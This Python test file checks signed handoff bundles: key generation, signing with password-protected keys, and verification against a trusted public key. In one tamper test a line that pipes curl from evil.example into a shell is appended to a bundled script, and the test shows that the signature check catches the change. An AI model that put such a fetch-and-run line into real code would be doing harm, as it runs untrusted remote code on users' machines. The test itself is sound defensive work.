"""Signed bundles: handoff bundle --sign KEY, handoff verify --trust PUBKEY (issue 11, item 5)."""
from __future__ import annotations

import io
import shutil
import subprocess

import pytest

from handoff_assistant.bundle import BundleOptions, verify_bundle
from handoff_assistant.bundle.writer import write_bundle
from handoff_assistant.cli import main
from handoff_assistant.signing import load_public_key, read_public_key, write_keypair
from tests.bundle.helpers import inputs_for, resign
from tests.support.minisign_keys import encrypted_key, fast_limits


@pytest.fixture
def keys(tmp_path):
    write_keypair(tmp_path / "owner.key", tmp_path / "owner.pub")
    write_keypair(tmp_path / "other.key", tmp_path / "other.pub")
    return tmp_path


def _bundle(project, tmp_path, keys, as_zip=False, sign="owner.key"):
    options = BundleOptions(tmp_path / "out", zip=as_zip, engine="installed",
                            sign_key=keys / sign if sign else None)
    return write_bundle(inputs_for(project), options).path


@pytest.mark.parametrize("as_zip", [False, True])
def test_a_signed_bundle_verifies_against_the_trusted_key(project, tmp_path, keys, as_zip):
    bundle = _bundle(project, tmp_path, keys, as_zip)
    owner = load_public_key(keys / "owner.pub")
    result = verify_bundle(bundle, trust=owner)
    assert result.ok and result.signature.startswith(f"signed by the trusted key {owner.id_text} (timestamp:")
    unchecked = verify_bundle(bundle)
    assert unchecked.ok and unchecked.signature == (f"signed with key {owner.id_text}; not checked (pass --trust "
                                                    "PUBKEY to check who signed it)")


def test_a_re_sealed_bundle_fails_against_the_trusted_key(project, tmp_path, keys):
    """Integrity is not authenticity: an attacker who edits a file and rewrites SHA256SUMS and the manifest gets
    a bundle that verifies; the signature is what catches it."""
    bundle = _bundle(project, tmp_path, keys)
    score = bundle / "code" / "tinyscore" / "score.py"
    score.write_text(score.read_text() + "\nimport os; os.system('curl evil.example | sh')\n")
    resign(bundle)
    assert verify_bundle(bundle).ok  # what integrity alone says
    result = verify_bundle(bundle, trust=load_public_key(keys / "owner.pub"))
    assert not result.ok and result.problems == (
        "the signature is not valid: the signature does not match the file: it was changed after signing",)


def test_an_unsigned_or_foreign_bundle_fails_when_a_signature_is_required(project, tmp_path, keys):
    owner = load_public_key(keys / "owner.pub")
    unsigned = verify_bundle(_bundle(project, tmp_path / "u", keys, sign=None), trust=owner)
    assert not unsigned.ok and unsigned.problems == (
        f"the bundle is not signed (SHA256SUMS.minisig is missing), but a signature by key {owner.id_text} was "
        "required",)
    foreign = verify_bundle(_bundle(project, tmp_path / "f", keys, sign="other.key"), trust=owner)
    other = load_public_key(keys / "other.pub")
    assert not foreign.ok and foreign.problems == (
        f"the signature is not valid: it was signed with key {other.id_text}, not the trusted key {owner.id_text}",)


def test_the_cli_makes_keys_signs_and_checks(project, tmp_path, capsys, pip_env, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("handoff_assistant.cli.keygen_command.KDF_LIMITS", fast_limits())
    monkeypatch.setenv("MARIA_KEY_PASSWORD", "maria's pass")
    password = ["--key-password-env", "MARIA_KEY_PASSWORD"]
    assert main(["keygen", "--name", "maria"] + password) == 0
    assert "Wrote the secret key maria.key" in capsys.readouterr().out
    assert main(["keygen", "--name", "maria"] + password) == 2
    assert capsys.readouterr().err.strip() == "handoff keygen: maria.key already exists; choose another name (a key " \
                                              "is never overwritten)"
    assert main(["bundle", str(project), "-o", "out", "--engine", "installed", "--allow-not-ready", "test", "--sign",
                 "maria.key"] + password) == 0
    bundle = next((tmp_path / "out").glob("*-handoff"))
    capsys.readouterr()
    assert main(["verify", str(bundle), "--trust", "maria.pub"]) == 0
    assert "  signature: signed by the trusted key" in capsys.readouterr().out
    line = (tmp_path / "maria.pub").read_text().splitlines()[1]
    assert main(["verify", str(bundle), "--trust", line]) == 0
    capsys.readouterr()
    assert main(["verify", str(bundle), "--trust", "no-such.pub"]) == 2
    # a mistyped file name is said as one (it used to be parsed as a key and called "not valid base64")
    assert capsys.readouterr().err.strip() == ("handoff verify: --trust no-such.pub: the public key no-such.pub "
                                               "cannot be read (No such file or directory)")
    assert main(["verify", str(bundle), "--trust", "not-a-key"]) == 2
    assert capsys.readouterr().err.strip() == "handoff verify: --trust not-a-key: the public key is not valid base64"


def test_a_bad_signing_key_stops_the_build_before_anything_is_written(project, tmp_path, capsys):
    (tmp_path / "bad.key").write_text("untrusted comment: x\nnot-a-key\n")
    assert main(["bundle", str(project), "-o", str(tmp_path / "out"), "--engine", "installed", "--allow-not-ready", "test", "--sign",
                 str(tmp_path / "bad.key")]) == 2
    assert f"Cannot sign with {tmp_path / 'bad.key'}: the secret key is not valid base64." in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


@pytest.mark.skipif(shutil.which("minisign") is None, reason="the minisign tool is not installed (apt install "
                                                             "minisign)")
def test_minisign_itself_checks_a_bundles_signature(project, tmp_path, keys):
    bundle = _bundle(project, tmp_path, keys)
    checked = subprocess.run(["minisign", "-Vm", str(bundle / "SHA256SUMS"), "-p", str(keys / "owner.pub")],
                             capture_output=True, text=True)
    assert checked.returncode == 0 and "Signature and comment signature verified" in checked.stdout


def test_a_password_protected_key_signs_with_its_password_from_a_file_or_the_environment(project, tmp_path, capsys,
                                                                                        monkeypatch):
    made = encrypted_key("s3cret pass")
    (tmp_path / "team.key").write_text(made.text)
    (tmp_path / "password.txt").write_text("s3cret pass\n")
    build = ["bundle", str(project), "--engine", "installed", "--allow-not-ready", "test", "--sign",
             str(tmp_path / "team.key")]
    assert main(build + ["-o", str(tmp_path / "a"), "--key-password-file", str(tmp_path / "password.txt")]) == 0
    monkeypatch.setenv("TEAM_KEY_PASSWORD", "s3cret pass")
    assert main(build + ["-o", str(tmp_path / "b"), "--key-password-env", "TEAM_KEY_PASSWORD"]) == 0
    team = read_public_key(made.public_base64)
    for out in ("a", "b"):
        result = verify_bundle(next((tmp_path / out).glob("*-handoff")), trust=team)
        assert result.ok and result.signature.startswith(f"signed by the trusted key {team.id_text}")
    assert "s3cret" not in capsys.readouterr().out


@pytest.mark.parametrize("stdin, options, message", [
    ("wrong\n", ["--key-password-file", "-"], "wrong password for {key}"),
    ("", [], "{key} is password-protected and there is no terminal to ask for its password; give it with "
             "--key-password-file FILE ('-' = standard input) or --key-password-env NAME"),
    ("", ["--key-password-env", "NOT_SET_ANYWHERE"], "--key-password-env NOT_SET_ANYWHERE: that environment "
                                                     "variable is not set"),
])
def test_a_wrong_or_missing_key_password_is_one_line_before_anything_is_written(project, tmp_path, capsys,
                                                                               monkeypatch, stdin, options, message):
    key = tmp_path / "team.key"
    key.write_text(encrypted_key("s3cret pass").text)
    monkeypatch.setattr("sys.stdin", io.StringIO(stdin))
    assert main(["bundle", str(project), "-o", str(tmp_path / "out"), "--engine", "installed", "--allow-not-ready",
                 "test", "--sign", str(key)] + options) == 2
    assert capsys.readouterr().err.strip() == f"handoff bundle: {message.format(key=key)}"
    assert not (tmp_path / "out").exists()
